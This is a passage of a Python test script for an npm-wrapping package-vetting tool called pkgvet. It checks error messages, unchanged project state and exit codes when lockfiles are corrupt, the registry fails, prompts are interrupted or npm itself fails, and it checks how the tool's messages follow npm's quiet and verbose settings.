check(r.rc != 0 and ('lock' in r.err.lower()) and 'nothing was installed' in r.err,
      f'[8] garbage lockfile: clear message ({show(r)})')
check(before == snapshot(d8), '[8] garbage lockfile: nothing changed')
r = shim('ci', cwd=d8, env=env8)
check(r.rc != 0 and before == snapshot(d8) and 'lock' in r.err.lower(), f'[8] npm ci with a garbage lockfile: refused, unchanged ({show(r)})')

# A registry that fails mid-resolution: the dependency's packument answers 500.
with open(os.path.join(ROOT, 'faults.json'), 'w') as f:
    json.dump([{'match': r'^/npm/zz-broken-dep$', 'fault': '500'}], f)
d8 = project(CLEAN)
before = snapshot(d8)
# (npm retries a 500 with 10-60 s back-offs by default: the person's fetch-retries = 0 keeps this quick.)
r = shim('install', 'zz-top', '--registry', REG, cwd=d8, env=base_env(new_home(), {'npm_config_fetch_retries': '0'}))
check(r.rc != 0 and 'nothing was installed' in r.err and ('500' in r.err or 'zz-broken-dep' in r.err),
      f'[8] registry 500 on a dependency packument: clear message ({show(r)})')
check(before == snapshot(d8), '[8] registry failure: nothing changed')
os.remove(os.path.join(ROOT, 'faults.json'))

# Interrupted prompts.
for tag, kw in (('^D', dict(script=[(Q_END, b'\x04')])),
                ('Ctrl-C', dict(script=[(Q_END, b'\x03')])),
                ('master closed', dict(script=[(Q_END, b'')], close_master_at=1))):
    for n in leftovers():
        shutil.rmtree(os.path.join(TMP, n), ignore_errors=True)
    h = new_home()
    mk = os.path.join(WORK, 'marker-int')
    d8 = project(CLEAN)
    before = snapshot(d8)
    r = shim_pty('install', 'zz-hook', '--registry', REG, cwd=d8, env=base_env(h, {'PV_MARKER': mk}), **kw)
    check(r.steps >= 1, f'[8] {tag}: the prompt was shown ({show(r)})')
    check(r.rc != 0 and r.rc in (1, 130), f'[8] {tag}: exit non-zero ({show(r)})')
    if tag == 'master closed':
        check('interrupted' in r.err, '[8] [BUG: when the terminal goes away, the "interrupted" notice is written only '
              'to that terminal; stderr says just "nothing was installed"] master closed: "interrupted" on stderr '
              f'({show(r)})')
    else:
        check('interrupted' in r.err + r.tty, f'[8] {tag}: "interrupted" message ({show(r)})')
    check('nothing was installed' in r.err, f'[8] {tag}: stderr says nothing was installed')
    check(before == snapshot(d8) and not os.path.exists(mk), f'[8] {tag}: nothing changed (diff {changed(before, snapshot(d8))})')
    check(leftovers() == [], f'[8] {tag}: no pkgvet temp directory left in TMPDIR ({leftovers()})')
    check('zz-hook' not in approvals(h), f'[8] {tag}: no approval recorded')

# Ctrl-C while npm is still resolving (before any prompt): SIGINT to the shim's process group.
for n in leftovers():
    shutil.rmtree(os.path.join(TMP, n), ignore_errors=True)
d8 = project(CLEAN)
with open(os.path.join(ROOT, 'faults.json'), 'w') as f:
    json.dump([{'match': r'^/npm/zz-broken-dep$', 'fault': 'timeout'}], f)
before = snapshot(d8)
p = subprocess.Popen([SHIM, 'install', 'zz-top', '--registry', REG], cwd=d8, env=env8, stdin=subprocess.DEVNULL,
                     stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
t = time.time()
while time.time() - t < 20 and not any(n for n in leftovers()):
    time.sleep(0.05)
time.sleep(1.5)
os.killpg(p.pid, signal.SIGINT)
try:
    out, err = p.communicate(timeout=30)
    rc = p.returncode
except subprocess.TimeoutExpired:
    p.kill()
    out, err = p.communicate()
    rc = 'hung'
err = err.decode(errors='replace')
os.remove(os.path.join(ROOT, 'faults.json'))
check(rc != 0 and rc != 'hung' and 'interrupted' in err, f'[8] Ctrl-C during resolution: exit non-zero, "interrupted" (rc {rc}, {err[-400:]!r})')
check(before == snapshot(d8), '[8] Ctrl-C during resolution: nothing changed')
time.sleep(0.3)
check(leftovers() == [], f'[8] Ctrl-C during resolution: no pkgvet temp directory left in TMPDIR ({leftovers()})')

# ---------------------------------------------------------------- 9. npm's own exit status
print('# 9. the real npm fails at hand-off')
# A project whose own postinstall fails: npm (the project's lifecycle) exits
# non-zero after the vetted install; the shim returns that status.
d9 = project(CLEAN, pkgjson={'name': 'proj', 'version': '1.0.0', 'scripts': {'postinstall': 'exit 7'}})
r = shim('install', 'zz-leaf', '--registry', REG, cwd=d9, env=env)
rc_real, _, _ = real('run-script', 'postinstall', cwd=d9, env=env)
check(r.rc != 0 and r.rc == rc_real, f"[9] the project's failing postinstall: the shim returns npm's status ({r.rc} vs npm {rc_real}; {show(r)})")

# npm ci whose lockfile is out of sync with package.json: the lockfile is what gets vetted (npm is not
# run to resolve), then the real npm ci refuses; its status and message come back, nothing is installed.
d9b = project(CLEAN, files={'.npmrc': f'registry={REG}\n'})
r0 = shim('install', 'zz-leaf', cwd=d9b, env=env)
pj = json.load(open(os.path.join(d9b, 'package.json')))
pj['dependencies']['zz-cli'] = '^1.0.0'
with open(os.path.join(d9b, 'package.json'), 'w') as f:
    json.dump(pj, f)
shutil.rmtree(os.path.join(d9b, 'node_modules'), ignore_errors=True)
before = snapshot(d9b)
rc_real, _, err_real = real('ci', cwd=d9b, env=env)
check(rc_real != 0 and before == snapshot(d9b), f'[9] setup: the real npm ci refuses the out-of-sync lockfile (rc {rc_real})')
r = shim('ci', cwd=d9b, env=env)
check(r.rc == rc_real and 'in sync' in r.err, f"[9] npm ci out of sync: the shim returns npm's status and message ({r.rc} vs npm {rc_real}; {show(r)})")
check(before == snapshot(d9b), '[9] npm ci out of sync: nothing changed')

# ---------------------------------------------------------------- 10. pkgvet's messages follow npm's loglevel
print('# 10. --quiet / --verbose')
d10 = project(CLEAN)
r = shim('install', 'zz-leaf', '--quiet', '--registry', REG, cwd=d10, env=env)
check(r.rc == 0 and installed(d10, 'zz-leaf') == '1.0.0' and 'resolving' not in r.err and '\u2714' not in r.err,
      f'[10] --quiet: installed, no plan or summary line from pkgvet ({show(r)})')
d10b = project(CLEAN)
r = shim('install', 'zz-leaf', '--verbose', '--registry', REG, cwd=d10b, env=env)
check(r.rc == 0 and installed(d10b, 'zz-leaf') == '1.0.0' and 'resolving' in r.err and '\u2714' in r.err
      and 'zz-leaf 1.0.0' in r.err and 'vetted 1 package in ' in r.err,
      f'[10] --verbose: each package with its verdict, and the time taken ({show(r)})')

check(leftovers() == [], f'no pkgvet temp directory left in TMPDIR after the whole run ({leftovers()})')
print(f'runtime {time.time() - T0:.1f} s')
srv.stdin.close()
srv.terminate()
srv.wait()
shutil.rmtree(WORK, ignore_errors=True)
done()
